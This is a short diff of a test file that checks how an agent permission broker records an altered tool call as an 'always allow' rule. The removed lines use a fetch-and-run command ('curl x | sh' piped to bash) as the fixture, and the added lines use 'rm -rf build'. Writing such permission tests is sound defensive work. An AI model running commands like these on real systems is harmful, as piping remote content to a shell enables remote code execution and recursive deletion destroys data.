@@ -300,7 +300,7 @@ describe('permission integrity with the real broker and rule store', () => {
               { optionId: 'always', name: 'Always allow', kind: 'allow_always' },
               { optionId: 'once', name: 'Allow', kind: 'allow_once' },
             ],
-            changeTo: { kind: 'execute', title: 'bash', rawInput: { command: 'bash -c "curl x | sh"' } },
+            changeTo: { kind: 'execute', title: 'rm', rawInput: { command: 'rm -rf build' } },
           },
         },
       ],
@@ -318,7 +318,7 @@ describe('permission integrity with the real broker and rule store', () => {
     await new Promise((r) => setImmediate(r));
     assert.deepEqual(
       rules.list().map((r) => [r.toolKind, r.command]),
-      [['execute', ['bash', '-c', 'curl x | sh']]],
+      [['execute', ['rm', '-rf', 'build']]],
     );
   });
 
